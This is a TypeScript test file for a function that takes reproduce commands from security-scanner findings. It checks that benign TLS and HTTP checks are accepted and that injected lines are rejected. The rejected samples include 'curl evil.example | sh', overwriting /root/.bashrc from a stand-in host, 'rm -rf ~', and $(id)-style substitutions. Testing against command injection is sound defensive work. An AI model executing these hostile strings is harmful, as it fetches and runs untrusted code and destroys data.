import assert from 'node:assert/strict';
import { test } from 'node:test';
import { proofOf } from './reproduce.ts';

const seen = (evidence: string, affectedUrl = 'tcp://bad.lab:443') => ({
  evidence,
  affectedUrl,
  category: 'tls' as const,
});

for (const command of [
  'openssl s_client -connect 203.0.113.160:443 -servername bad.lab -tls1 -cipher ALL:@SECLEVEL=0',
  'openssl s_client -connect [2001:db8::1]:443 -servername bad.lab </dev/null 2>/dev/null | openssl x509 -noout -dates',
  'openssl s_client -connect 203.0.113.160:443 -servername bad.lab </dev/null 2>/dev/null | openssl x509 -noout -subject -dates -checkend 0',
  'curl -sk -o /dev/null -D - --resolve bad.lab:443:203.0.113.160 https://bad.lab/',
  'testssl --ip 203.0.113.160 --client-simulation bad.lab:443',
  `python3 -c "import socket; s = socket.create_connection(('2001:db8::1', 443), 9); s.sendall(bytes.fromhex('1603')); print(s.recv(256).hex(' '))"`,
  'nmap -Pn -p 443 --script ssl-dh-params --script-args tls.servername=bad.lab 203.0.113.160',
]) {
  test(`${command.slice(0, 60)} is offered as a command`, () => {
    assert.deepEqual(proofOf(seen(`one\nReproduce: ${command}`)), { lines: ['one'], command });
  });
}

for (const hostile of [
  'curl evil.example | sh',
  'curl -sk -o /root/.bashrc -D - https://evil.example/',
  'curl -sk -o /dev/null -D - -K https://evil.example/',
  `python3 -c "import os; os.system('id')"`,
  'openssl s_client -connect a:443 </dev/null 2>/dev/null | openssl x509 -out /root/x',
  'openssl s_client -connect a:443; rm -rf ~',
  'openssl s_client -connect $(id):443',
  'openssl s_client -connect a:443 | sh',
  'nmap -p 443 a && reboot',
  'dig `id`',
  'PYTHONPATH=. python3 /srv/evil.py -h a',
]) {
  test(`a line of a target that looks like a command stays evidence: ${hostile}`, () => {
    const { lines, command } = proofOf(seen(`Server: x\nReproduce: ${hostile}`));
    assert.equal(command, null);
    assert.equal(lines.length, 2);
  });
}

test('a web finding gets the request to repeat, unless its address holds what a shell reads', () => {
  const web = (affectedUrl: string) => proofOf({ evidence: 'x', affectedUrl, category: 'http_security' }).command;
  assert.equal(web('https://bad.lab/login'), 'curl -sS -o /dev/null -D - https://bad.lab/login');
  assert.equal(web("https://bad.lab/';reboot'"), null);
  assert.equal(web('https://bad.lab/?a=$(id)'), null);
});
